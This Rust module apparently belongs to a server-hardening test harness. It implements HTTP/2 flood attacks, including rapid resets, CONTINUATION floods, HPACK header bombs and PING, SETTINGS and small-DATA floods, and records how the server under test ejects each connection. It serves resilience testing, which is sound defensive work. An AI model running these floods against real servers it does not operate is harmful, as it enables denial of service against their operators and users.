//! What hostile clients do with frames of HTTP/2, beside [`attacks`](crate::attacks).

#![allow(dead_code, reason = "a test and an example use different parts of it")]

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::sync::atomic::Ordering;
use std::time::Duration;

use crate::attacks::{Attack, Cut, Scene, Why, connect};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Ear, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, SHUT, WINDOW_UPDATE, begin, frame, get, head, post,
};

/// Streams that a client may open at once.
const STREAMS: u32 = 100;

/// How one connection floods.
struct Flood {
    /// What it says first.
    begin: Vec<u8>,
    /// What it says then, again and again, if anything: of the round.
    next: fn(u32) -> Vec<u8>,
    /// Whether it reads what the server says.
    reads: bool,
    /// How many streams the server has to reset until the attacker is thrown out; zero: it is
    /// when the connection ends.
    streams: usize,
}

impl Flood {
    fn new(begin: Vec<u8>, next: fn(u32) -> Vec<u8>) -> Self {
        Self {
            begin,
            next,
            reads: true,
            streams: 0,
        }
    }

    /// The flooder who asks on every stream that it may have, and keeps its windows shut.
    fn shut(path: &str) -> Self {
        let mut script = begin(SHUT);
        (0..STREAMS).for_each(|count| script.extend(get(id(count), path)));
        Self {
            streams: 1,
            ..Self::new(script, |_| Vec::new())
        }
    }

    fn run(&self, scene: &Scene<'_>) -> Cut {
        let connect = |_| Flooder::new(connect(scene.addr), self);
        let mut open: Vec<Flooder> = (0..scene.count).map(connect).collect();
        let mut whys = Vec::new();
        while !scene.stop.load(Ordering::Relaxed) {
            open.retain_mut(|flooder| match flooder.go_on(self) {
                Some(why) => {
                    whys.push(why);
                    false
                }
                None => true,
            });
            scene.left.store(open.len(), Ordering::Relaxed);
            std::thread::sleep(Duration::from_millis(5));
        }
        whys.sort_unstable();
        Cut {
            out: whys.len(),
            of: scene.count,
            // What most were told.
            why: whys.get(whys.len() / 2).copied(),
        }
    }
}

/// One connection of it.
struct Flooder {
    stream: TcpStream,
    unsent: Vec<u8>,
    round: u32,
    ear: Ear,
}

impl Flooder {
    fn new(stream: TcpStream, flood: &Flood) -> Self {
        stream.set_nonblocking(true).expect("a socket");
        Self {
            stream,
            unsent: flood.begin.clone(),
            round: 0,
            ear: Ear::default(),
        }
    }

    /// Says what it can, and hears. How it was thrown out, if it was.
    fn go_on(&mut self, flood: &Flood) -> Option<Why> {
        let is_over = self.say(flood) | (flood.reads && self.hear());
        let reset = self.ear.resets.last().map(|(_, code)| Why::Streams(*code));
        let is_reset = flood.streams > 0 && self.ear.resets.len() >= flood.streams;
        match self.ear.goaway {
            _ if is_reset => reset,
            Some(code) => Some(Why::Goaway(code)),
            None if is_over => {
                // What was said last may be there still.
                self.hear();
                let goaway = self.ear.goaway.map(Why::Goaway);
                Some(goaway.unwrap_or(Why::Closed))
            }
            None => None,
        }
    }

    /// True: it cannot any more.
    fn say(&mut self, flood: &Flood) -> bool {
        for _ in 0..16 {
            if self.unsent.is_empty() {
                self.unsent = (flood.next)(self.round);
                self.round += 1;
            }
            match self.stream.write(&self.unsent) {
                Ok(0) => return false,
                Ok(count) => drop(self.unsent.drain(..count)),
                Err(e) => return is_fatal(&e),
            }
        }
        false
    }

    /// True: the connection is over.
    fn hear(&mut self) -> bool {
        let mut buffer = [0; 16 * 1024];
        loop {
            match self.stream.read(&mut buffer) {
                Ok(0) => return true,
                Ok(count) => self.ear.hear(&buffer[..count]),
                Err(e) => return is_fatal(&e),
            }
        }
    }
}

fn is_fatal(e: &std::io::Error) -> bool {
    !matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted)
}

fn id(count: u32) -> u32 {
    count * 2 + 1
}

/// The same frame so many times.
fn many(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    frame(kind, flags, stream, payload).repeat(50)
}

/// A head with a field of 4 KB in the table of fields, which is named eight thousand times by a
/// byte each.
fn bomb(stream: u32) -> Vec<u8> {
    let mut block = head(0x82, "/hello");
    block.extend_from_slice(&[0x40, 1, b'n', 127, 0xa1, 0x1e]);
    block.extend(std::iter::repeat_n(b'v', 4_000));
    block.extend(std::iter::repeat_n(0xbe, 8_000));
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
}

/// Ten streams, each with `of`.
fn streams(round: u32, of: fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..10)
        .flat_map(|count| of(id(round * 10 + count)))
        .collect()
}

const fn attack(name: &'static str, large: usize, run: fn(&Scene<'_>) -> Cut) -> Attack {
    Attack {
        name,
        small: 10,
        large,
        run,
    }
}

/// All of them.
pub(crate) const FLOODS: &[Attack] = &[
    attack("rapid resets", 1_000, |scene| {
        Flood::new(begin(&[]), |round| {
            streams(round, |stream| {
                let mut bytes = get(stream, "/big");
                bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                bytes
            })
        })
        .run(scene)
    }),
    attack("resets that the server is made to send", 1_000, |scene| {
        Flood::new(begin(&[]), |round| {
            streams(round, |stream| {
                let mut bytes = post(stream, "/hello");
                bytes.extend(frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]));
                bytes
            })
        })
        .run(scene)
    }),
    attack("CONTINUATION without end", 1_000, |scene| {
        let mut script = begin(&[]);
        script.extend(frame(HEADERS, END_STREAM, 1, &head(0x82, "/hello")));
        let field = |_| {
            many(
                CONTINUATION,
                0,
                1,
                &[&[0, 1, b'n', 100][..], &[b'v'; 100]].concat(),
            )
        };
        Flood::new(script, field).run(scene)
    }),
    attack("empty CONTINUATION", 1_000, |scene| {
        let mut script = begin(&[]);
        script.extend(frame(HEADERS, END_STREAM, 1, &head(0x82, "/hello")));
        Flood::new(script, |_| many(CONTINUATION, 0, 1, &[])).run(scene)
    }),
    attack("header bombs", 200, |scene| {
        Flood::new(begin(&[]), |round| bomb(id(round))).run(scene)
    }),
    attack("PING", 1_000, |scene| {
        Flood::new(begin(&[]), |_| many(PING, 0, 0, &[0; 8])).run(scene)
    }),
    attack("PING, answers not read", 1_000, |scene| {
        let flood = Flood::new(begin(&[]), |_| many(PING, 0, 0, &[0; 8]));
        Flood {
            reads: false,
            ..flood
        }
        .run(scene)
    }),
    attack("SETTINGS", 1_000, |scene| {
        Flood::new(begin(&[]), |_| many(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0])).run(scene)
    }),
    attack("WINDOW_UPDATE", 1_000, |scene| {
        Flood::new(begin(&[]), |_| many(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).run(scene)
    }),
    attack("PRIORITY", 1_000, |scene| {
        Flood::new(begin(&[]), |_| many(PRIORITY, 0, 1, &[0, 0, 0, 0, 9])).run(scene)
    }),
    attack("unknown frames", 1_000, |scene| {
        Flood::new(begin(&[]), |_| many(99, 0, 0, b"what is this")).run(scene)
    }),
    attack("empty DATA", 1_000, |scene| {
        let mut script = begin(&[]);
        script.extend(post(1, "/hello"));
        Flood::new(script, |_| many(DATA, 0, 1, &[])).run(scene)
    }),
    attack("DATA of a byte", 1_000, |scene| {
        let mut script = begin(&[]);
        script.extend(post(1, "/hello"));
        Flood::new(script, |_| many(DATA, 0, 1, b"b")).run(scene)
    }),
    attack("shut windows, large answers", 1_000, |scene| {
        Flood::shut("/big").run(scene)
    }),
    attack("shut windows, small answers", 1_000, |scene| {
        Flood::shut("/hello").run(scene)
    }),
];
